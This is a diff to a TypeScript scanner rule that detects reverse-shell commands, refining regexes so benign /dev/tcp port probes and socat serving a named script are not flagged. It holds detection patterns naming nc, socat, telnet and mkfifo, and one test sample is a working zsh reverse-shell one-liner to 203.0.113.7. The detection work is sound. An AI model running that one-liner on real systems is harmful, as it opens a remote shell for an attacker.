@@ -2,7 +2,9 @@ import type { Candidate, Rule } from '../../rule.js';
 
 /** No command, `:`, `true` or `echo` by itself, in front of the redirection. */
 const NOTHING_SENT =
-  /(?:^|["'`;&|{\n]|(?<!\$)\(|(?<![\w.-])(?:if|until|while|do|then|!|timeout\s\d+)\s)[ \t]*(?:(?:echo(?:\s+-n)?|:|true)\s*)?[<>]\s*$/;
+  /(?:^|["'`;&|{\n]|(?<!\$)\(|(?<![\w.-])(?:if|until|while|do|then|!|timeout\s\d+)\s)[ \t]*(?:(?:echo(?:\s+-n)?|:|true|cat\s*<\s*\/dev\/null|printf\s+(?:""|''))\s*)?(?:\d?>{1,2}\s*\/dev\/null\s*)?(?:<|>{1,2})\s*$/;
+/** The name of the pseudo-device in bash's own manual. */
+const NAMED = /^\/dev\/(?:tcp|udp)\/host\/port$/i;
 /** A shell is in the same command, before or behind a pipe: `</dev/tcp/host/80 bash`, `| sh`. */
 const SHELL_FOLLOWS = /^[^\n;)"'`]{0,40}(?<![\w.-])(?:ba|z|da|k)?sh(?![\w.-])/;
 
@@ -13,8 +15,11 @@ function isOwnPort(before: string, text: string): boolean {
 
 /** `echo > /dev/tcp/$host/$port`, `</dev/tcp/host/80`: how scripts wait until a port is open; no shell is given to anybody. */
 function isMoreThanProbe({ before, text, after }: Candidate): boolean {
-  return !(NOTHING_SENT.test(before) || isOwnPort(before, text)) || SHELL_FOLLOWS.test(after);
+  return !(NAMED.test(text) || NOTHING_SENT.test(before) || isOwnPort(before, text)) || SHELL_FOLLOWS.test(after);
 }
+
+/** A script that answers whoever connects, by its name alone: `exec:"./answer.sh"`. */
+const SCRIPT = /(?:exec|system):[\s"'\\]*(?!\/(?:tmp|dev|var)\/)[\w./-]*\w\.(?:sh|cmd)(?=["'\s\\,;)]|$)/i;
 
 export const rule: Rule = {
   pattern: 'reverse_shell',
@@ -38,7 +43,11 @@ export const rule: Rule = {
     },
     { re: /mkfifo\s+\S[^\n]*[^\w-](?:nc|ncat|netcat|telnet|openssl\s+s_client|socat)\s/, window: 400 },
     { re: /mknod\s+\S+\s+p[^\n]*[^\w-](?:nc|ncat|telnet)\s/, window: 400 },
-    { re: /(?<![\w-])(?:web)?socat\s[^\n]*(?:exec|system):\s*["'\\]*[^\n,;|]*(?:sh|cmd|powershell)/i, window: 400 },
+    {
+      re: /(?<![\w-])(?:web)?socat\s[^\n]*(?:exec|system):\s*["'\\]*[^\n,;|]*(?:sh|cmd|powershell)/i,
+      window: 400,
+      accept: ({ text, after }) => !SCRIPT.test(text + after),
+    },
     { re: /(?<![\w-])ztcp\s+(?:-\w+\s+)*[\w.$-]+\s+[\d$]/ },
     {
       re: /(?<![\w-])telnet\s[^\n|]*\|\s*(?:\/[\w./-]*\/)?(?:ba|z|k|da)?sh\s*(?:-i\s*)?\|\s*telnet/,
@@ -66,6 +75,10 @@ export const rule: Rule = {
       "zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.7 4444 && zsh >&$REPLY'",
     ],
     silent: [
+      '/dev/tcp/host/port\n    If host is a valid hostname, bash attempts to open the corresponding TCP socket.',
+      "bash -c 'cat < /dev/null > /dev/tcp/192.0.2.1/53' && echo online",
+      'socat tcp-l:8080,reuseaddr,fork exec:"answer.sh",nofork',
+      'until printf "" 2>>/dev/null >>/dev/tcp/127.0.0.1/6443; do sleep 1; done',
       'nc -zv host.example 443',
       'mkfifo {{path/to/pipe}}',
       'echo hello | nc -w 1 host 9',
